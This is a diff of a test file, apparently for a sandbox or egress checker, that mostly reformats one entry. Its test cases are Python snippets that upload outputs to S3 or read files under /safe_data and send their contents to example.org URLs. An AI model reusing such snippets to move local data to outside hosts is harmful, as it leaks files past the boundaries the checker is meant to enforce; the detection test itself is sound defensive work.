@@ -38,7 +38,10 @@ test.each([
   ['py', 'import pandas as pd\npd.DataFrame({"a": [1]}).to_csv("s3://bucket/a.csv")'],
   ['py', 'import os\nos.system("aws s3 cp /safe_outputs/a s3://b/a")'],
   ['py', 'import requests\ndef f(gene):\n    return requests.get(f"https://rest.example.org/gene/{gene}")\nf(input())'],
-  ['py', 'import requests\nq = open("/safe_data/a").read()\nrequests.get("https://example.org/search", params={"q": q})'],
+  [
+    'py',
+    'import requests\nq = open("/safe_data/a").read()\nrequests.get("https://example.org/search", params={"q": q})',
+  ],
   [
     'py',
     'import urllib.request\nfor line in open("/safe_data/a.txt"):\n    urllib.request.urlopen("https://example.org/find?q=" + line)',
